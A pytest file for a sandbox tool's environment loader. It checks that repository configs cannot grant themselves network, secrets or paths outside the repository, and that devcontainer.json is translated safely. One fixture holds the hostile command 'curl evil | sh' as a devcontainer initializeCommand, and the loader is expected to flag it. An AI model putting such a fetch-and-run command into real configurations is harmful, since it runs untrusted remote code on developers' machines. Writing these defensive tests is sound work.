"""How an environment is described (policies.environment): your config, a repository's
``.corral/environment.toml``, a ``.devcontainer/devcontainer.json``; what a repository may
not grant itself; what is refused, with the file and the field named."""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from policies.environment import (
    EnvironmentConfig,
    EnvironmentInvalid,
    EnvironmentSpec,
    load_environment,
)
from sandbox.environment import _key


def test_nothing_described_is_no_environment(tmp_path: Path) -> None:
    assert load_environment(tmp_path, None, trust_project=True) == (None, [])
    assert load_environment(tmp_path, EnvironmentConfig(), trust_project=True)[0] is None


def test_a_repository_file_is_read_only_under_trust_project(tmp_path: Path) -> None:
    (tmp_path / ".corral").mkdir()
    (tmp_path / ".corral" / "environment.toml").write_text(
        '[environment]\nsetup = ["make deps"]\ninputs = ["Makefile"]\n')
    assert load_environment(tmp_path, None, trust_project=False)[0] is None
    spec, diagnostics = load_environment(tmp_path, None, trust_project=True)
    assert spec is not None and spec.setup == ("make deps",) and spec.inputs == ("Makefile",)
    assert spec.sources == (".corral/environment.toml",) and diagnostics == []


@pytest.mark.parametrize(("key", "value"), [("setup_network", "true"),
                                            ("secrets", '["GITHUB_TOKEN"]'),
                                            ("ro_paths", '["/"]')])
def test_a_repository_cannot_grant_itself_anything(tmp_path: Path, key: str, value: str) -> None:
    (tmp_path / ".corral").mkdir()
    (tmp_path / ".corral" / "environment.toml").write_text(f'setup = ["x"]\n{key} = {value}\n')
    spec, diagnostics = load_environment(tmp_path, None, trust_project=True)
    assert spec is not None
    assert spec.setup_network is False and spec.secrets == () and spec.ro_paths == ()
    [diagnostic] = diagnostics
    assert diagnostic.file == ".corral/environment.toml" and diagnostic.field == key
    assert "cannot grant" in diagnostic.reason


def test_your_config_wins_and_grants(tmp_path: Path) -> None:
    (tmp_path / ".corral").mkdir()
    (tmp_path / ".corral" / "environment.toml").write_text('setup = ["a"]\nenv = {X = "1"}\n')
    user = EnvironmentConfig(setup=("b",), setup_network=True)
    spec, _ = load_environment(tmp_path, user, trust_project=True)
    assert spec is not None and spec.setup == ("b",) and spec.env == {"X": "1"}
    assert spec.setup_network is True
    spec, _ = load_environment(tmp_path, user, trust_project=True, network=False)
    assert spec is not None and spec.setup_network is False  # the command line decides


@pytest.mark.parametrize(("text", "field"), [
    ('inputs = ["../outside.lock"]', "inputs"),
    ('carry = ["/etc"]', "carry"),
    ('carry = [".git/hooks"]', "carry"),
    ('env = {"BAD NAME" = "x"}', "env"),
    ('setup = [""]', "setup"),
    ('dockerfile = "../Dockerfile"', "dockerfile"),
    ('unknown = 1', "unknown"),
])
def test_a_bad_description_names_the_file_and_the_field(tmp_path: Path, text: str,
                                                         field: str) -> None:
    (tmp_path / ".corral").mkdir()
    (tmp_path / ".corral" / "environment.toml").write_text(text + "\n")
    with pytest.raises(EnvironmentInvalid) as raised:
        load_environment(tmp_path, None, trust_project=True)
    assert ".corral/environment.toml" in raised.value.message
    assert field in raised.value.message


def _devcontainer(tmp_path: Path, text: str) -> tuple[EnvironmentSpec | None, list[str]]:
    (tmp_path / ".devcontainer").mkdir(exist_ok=True)
    (tmp_path / ".devcontainer" / "devcontainer.json").write_text(text)
    spec, diagnostics = load_environment(tmp_path, None, trust_project=True)
    return spec, [f"{d.field}: {d.reason}" for d in diagnostics]


def test_a_devcontainer_becomes_an_environment(tmp_path: Path) -> None:
    (tmp_path / "requirements.txt").write_text("pytest\n")
    spec, warnings = _devcontainer(tmp_path, """{
      // comments and trailing commas, as VS Code writes them
      "name": "x",
      "build": {"dockerfile": "Dockerfile", "context": "..", "args": {"V": "1"}},
      "onCreateCommand": ["pip", "install", "-r", "requirements.txt"],
      "updateContentCommand": {"b": "echo b", "a": "echo a"},
      "postCreateCommand": "echo done",
      "containerEnv": {"A": "1"},
      "remoteEnv": {"B": "${containerEnv:A}-2", "C": "${localEnv:HOME}"},
      "features": {},
      "initializeCommand": "curl evil | sh",
    }""")
    assert spec is not None
    assert spec.dockerfile == ".devcontainer/Dockerfile" and spec.context == "."
    assert spec.build_args == {"V": "1"}
    assert spec.setup == ("pip install -r requirements.txt", "echo a", "echo b", "echo done")
    assert spec.env == {"A": "1", "B": "1-2"}  # never your machine's HOME
    assert "requirements.txt" in spec.inputs and ".devcontainer/Dockerfile" in spec.inputs
    assert any(w.startswith("initializeCommand: would run on your machine") for w in warnings)
    assert any(w.startswith("features: not supported") for w in warnings)
    assert any(w.startswith("remoteEnv:") and "left out" in w for w in warnings)


@pytest.mark.parametrize(("text", "why"), [
    ('{"dockerComposeFile": "x.yml"}', "compose"),
    ('{"build": {"dockerfile": "../../Dockerfile"}}', "leaves the repository"),
    ('{"postCreateCommand": 3}', "a command is a string"),
    ('{"a": 1, "a": 2}', "duplicate"),
    ("[1]", "must be an object"),
    ('{"image": ', "invalid JSON"),
])
def test_an_unusable_devcontainer_is_refused_with_its_reason(tmp_path: Path, text: str,
                                                             why: str) -> None:
    with pytest.raises(EnvironmentInvalid) as raised:
        _devcontainer(tmp_path, text)
    assert why in raised.value.message and "devcontainer.json" in raised.value.message


def test_the_key_follows_inputs_and_description_not_other_files(tmp_path: Path) -> None:
    (tmp_path / "lock").write_text("a==1\n")
    spec = EnvironmentSpec(setup=("x",), inputs=("lock",))
    base = _key(spec, backend="bubblewrap", repo=tmp_path, owner=(0, 0), image=None)
    (tmp_path / "other.py").write_text("changed")
    assert _key(spec, backend="bubblewrap", repo=tmp_path, owner=(0, 0), image=None) == base
    (tmp_path / "lock").write_text("a==2\n")
    changed = _key(spec, backend="bubblewrap", repo=tmp_path, owner=(0, 0), image=None)
    assert changed != base
    for other in (_key(spec.model_copy(update={"setup": ("y",)}), backend="bubblewrap",
                       repo=tmp_path, owner=(0, 0), image=None),
                  _key(spec, backend="docker", repo=tmp_path, owner=(0, 0), image=None),
                  _key(spec, backend="bubblewrap", repo=tmp_path, owner=(1000, 1000),
                       image=None)):
        assert other not in (base, changed)
    assert json.dumps(spec.model_dump())  # plain data
